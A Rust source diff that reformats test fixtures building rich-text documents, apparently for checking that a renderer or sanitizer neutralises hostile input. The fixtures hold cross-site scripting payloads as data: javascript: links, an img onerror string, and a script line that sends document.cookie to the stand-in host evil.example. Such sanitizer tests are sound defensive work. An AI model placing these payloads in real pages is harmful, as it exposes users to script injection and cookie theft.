@@ -42,10 +42,7 @@ pub(crate) fn showcase() -> Value {
             text(" 4.2. "),
             marked("The old date", json!([{"type": "strike"}])),
             text(" See the "),
-            marked(
-                "release notes",
-                json!([{"type": "link", "attrs": {"href": "https://example.com/notes"}}]),
-            ),
+            marked("release notes", json!([{"type": "link", "attrs": {"href": "https://example.com/notes"}}])),
             text(" "),
             json!({"type": "emoji", "attrs": {"shortName": ":rocket:", "id": "1f680", "text": "🚀"}}),
             json!({"type": "hardBreak"}),
@@ -75,10 +72,7 @@ pub(crate) fn showcase() -> Value {
         ]}),
         para(vec![
             text("Do not click: "),
-            marked(
-                "totally safe link",
-                json!([{"type": "link", "attrs": {"href": "javascript:alert(1)"}}]),
-            ),
+            marked("totally safe link", json!([{"type": "link", "attrs": {"href": "javascript:alert(1)"}}])),
             text(" and this text is not markup: <img src=x onerror=alert(1)> <b>bold?</b>"),
         ]),
     ])
@@ -87,9 +81,7 @@ pub(crate) fn showcase() -> Value {
 /// ACME-2/3: a description that is all attack, no content.
 pub(crate) fn hostile() -> Value {
     doc(vec![
-        para(vec![text(
-            "<script>document.location='https://evil.example/?c='+document.cookie</script>",
-        )]),
+        para(vec![text("<script>document.location='https://evil.example/?c='+document.cookie</script>")]),
         para(vec![marked(
             "click me",
             json!([{"type": "link", "attrs": {"href": "javascript:alert(document.domain)"}}]),
